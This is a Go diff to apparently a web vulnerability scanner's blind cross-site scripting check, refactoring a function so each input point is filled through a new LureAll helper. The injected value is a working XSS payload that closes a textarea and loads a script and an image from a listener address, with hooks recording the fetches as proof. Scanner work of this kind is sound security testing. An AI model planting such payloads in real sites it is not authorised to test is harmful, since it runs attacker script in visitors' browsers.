@@ -48,23 +48,13 @@ func request(t *attack.Trial) error {
 			}
 		}
 	}
-	if len(points) == 0 {
-		return nil
-	}
-	_, err := t.Lure(func(bait func() attack.Bait) (*message.Request, []attack.Hook) {
-		r := t.Request
-		var hooks []attack.Hook
-		for i := range points {
-			run, shown, link := bait(), bait(), bait()
-			// The last address is only text: what asks for every link that it sees asks for it too.
-			payload := points[i].Value + `'"></textarea><script src=` + run.URL + `></script><img src=` + shown.URL + ` width=1 height=1> ` + link.URL
-			r = r.With(points[i], payload)
-			hooks = append(hooks,
-				attack.Hook{Bait: run, Control: &link, Rule: script, At: &points[i], Payload: payload, Fetch: true, Proof: "The value holds the address of a script at a listener; whoever showed it asked for it."},
-				attack.Hook{Bait: shown, Control: &link, Now: true, Rule: fetched, At: &points[i], Payload: payload, Fetch: true,
-					Proof: "The value holds a picture at an address of a listener; the server asked for it before it answered."})
+	return t.LureAll(points, func(at message.Point, bait func() attack.Bait) (string, []attack.Hook) {
+		run, shown, link := bait(), bait(), bait()
+		// The last address is only text: what asks for every link that it sees asks for it too.
+		return at.Value + `'"></textarea><script src=` + run.URL + `></script><img src=` + shown.URL + ` width=1 height=1> ` + link.URL, []attack.Hook{
+			{Bait: run, Control: &link, Rule: script, Fetch: true, Proof: "The value holds the address of a script at a listener; whoever showed it asked for it."},
+			{Bait: shown, Control: &link, Now: true, Rule: fetched, Fetch: true,
+				Proof: "The value holds a picture at an address of a listener; the server asked for it before it answered."},
 		}
-		return r, hooks
 	})
-	return err
 }
